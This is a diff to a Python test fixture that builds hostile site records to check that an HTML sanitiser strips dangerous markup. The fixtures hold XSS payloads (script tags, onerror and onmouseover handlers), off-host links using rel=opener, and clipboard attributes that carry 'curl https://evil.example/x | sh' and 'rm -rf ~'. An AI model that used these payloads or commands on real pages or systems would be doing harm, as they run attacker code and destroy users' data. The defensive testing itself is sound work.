@@ -66,7 +66,9 @@ PAGES = {
 DARK_PAGES = ["home", "proposition", "evidence-map"]
 
 HOSTILE_ID = "hostile-title"
-HOSTILE_MARKUP = "<img src=x onerror=alert(1)> <script>alert(1)</script>"
+HOSTILE_MARKUP = "<img src=x onerror=alert(1)> <script>alert(1)</script>"  # plain-text fields: shown as text
+# Markdown fields hold only full addresses (the check refuses relative ones), so the image names another host.
+HOSTILE_MARKDOWN = "<img src=https://evil.example/x.png onerror=alert(1)> <script>alert(1)</script>"
 # Record HTML that acts on the reader without running script (class 6 of issue #8), and headings that
 # would take Material's ids: the sanitiser strips these attributes, so `check` accepts them.
 OFF_HOST = "evil.example"
@@ -80,7 +82,7 @@ HOSTILE_BODY = f"""\
   Read <a href="https://{OFF_HOST}/report" target="_blank" rel="opener">the council report</a>,
   <span data-clipboard-text="curl https://{OFF_HOST}/x | sh" data-md-component="dialog"
   class="md-clipboard md-icon">copy the opening hours</span> and see
-  <img src="/\\{OFF_HOST}/chart.png" alt="a backslash chart"> and <img src="//{OFF_HOST}/c.png" alt="another">."""
+  <img src="https:/\\{OFF_HOST}/chart.png" alt="a backslash chart"> and <img src="HTTPS://{OFF_HOST}/c.png" alt="another">."""
 # Raw-text tags named in prose (class 3): shown as text, never swallowing the words after them.
 RAW_TEXT_AFTER = "zebra words after them stay"
 RAW_TEXT_NOTE = f"Removed the <style> element, the <template> tag and the <textarea> box; {RAW_TEXT_AFTER}."
@@ -88,7 +90,7 @@ HOSTILE_RECORD = f"""\
 id: {HOSTILE_ID}
 kind: case-study
 title: 'Zebrafish {HOSTILE_MARKUP} </title><script>alert(2)</script> " onmouseover="alert(3)'
-summary: 'Markdown allows safe HTML, never script: {HOSTILE_MARKUP}'
+summary: 'Markdown allows safe HTML, never script: {HOSTILE_MARKDOWN}'
 places:
   - {{name: 'Treorchy {HOSTILE_MARKUP}', nation: wales}}
 organisations: ['Org {HOSTILE_MARKUP}']
@@ -107,13 +109,13 @@ changes:
   - date: 2020-12-04
     note: '{RAW_TEXT_NOTE}'
 """
-PROPOSITION_LINK = (f'<a href="//{OFF_HOST}/p" target="_blank" rel="opener" data-clipboard-text="rm -rf ~">'
-                    'a protocol-relative link</a>')
+PROPOSITION_LINK = (f'<a href="HTTPS://{OFF_HOST}/p" target="_blank" rel="opener" data-clipboard-text="rm -rf ~">'
+                    'a link in capitals</a>')
 HOSTILE_PROPOSITION = f"""\
 id: {HOSTILE_ID}-proposition
 number: 4
 title: 'Zebra proposition {HOSTILE_MARKUP} " onmouseover="alert(3)'
-summary: 'Markdown allows safe HTML, never script: {HOSTILE_MARKUP} {PROPOSITION_LINK}'
+summary: 'Markdown allows safe HTML, never script: {HOSTILE_MARKDOWN} {PROPOSITION_LINK}'
 published: 2020-12-03
 source: the-paper
 recommendations:
